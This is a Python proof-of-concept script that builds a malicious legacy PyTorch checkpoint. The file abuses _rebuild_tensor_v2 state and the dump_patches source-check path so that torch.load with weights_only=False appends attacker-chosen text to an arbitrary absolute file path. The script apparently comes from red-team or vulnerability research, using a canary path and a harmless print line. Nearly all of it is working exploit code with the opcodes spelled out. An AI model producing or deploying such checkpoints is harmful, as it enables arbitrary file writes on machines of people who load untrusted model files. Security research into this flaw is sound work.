"""A legacy (pre-1.6) torch stream whose object pickle
  1. BUILDs the function torch._utils._rebuild_tensor_v2 (on torch's own weights-only
     allow-list) with {"dump_patches": True} and slot state {"__name__": "<canary path>"},
  2. then names it in a persistent id ('module', fn, file, source).
torch.load(weights_only=False) -> _legacy_load -> _check_container_source: the recorded source
differs from the function's, fn.dump_patches is now true, so torch opens fn.__name__ + ".patch"
(an absolute path the file chooses) in append mode and writes the diff, whose "+" lines are the
file's text. Every opcode and global is one torch's weights-only unpickler accepts."""
import pickle
import struct
import sys

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/legacy_patch"
out = sys.argv[2] if len(sys.argv) > 2 else "model.pt"

def p2(value):
    return pickle.dumps(value, protocol=2)

def s(text):  # BINUNICODE
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b

main = (b"\x80\x02" + b"}"                                     # PROTO 2, EMPTY_DICT
        + s("meta")
        + b"ctorch._utils\n_rebuild_tensor_v2\n" + b"q\x00"   # GLOBAL, BINPUT 0
        + b"}" + s("dump_patches") + b"\x88" + b"s"            # {'dump_patches': True}
        + b"}" + s("__name__") + s(canary) + b"s"              # {'__name__': canary}
        + b"\x86" + b"b"                                       # TUPLE2, BUILD
        + b"s"                                                 # SETITEM meta=fn
        + s("weight")
        + b"(" + s("module") + b"h\x00" + s("model.py")        # MARK 'module' BINGET 0 ...
        + s("print('attacker text lands in the patch file')\n") + b"t"
        + b"Q"                                                 # BINPERSID
        + b"s" + b".")                                         # SETITEM, STOP
MAGIC = 0x1950A86A20F9469CFC6C
sys_info = {"protocol_version": 1001, "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4}}
open(out, "wb").write(p2(MAGIC) + p2(1001) + p2(sys_info) + main + p2([]))
print("wrote", out)
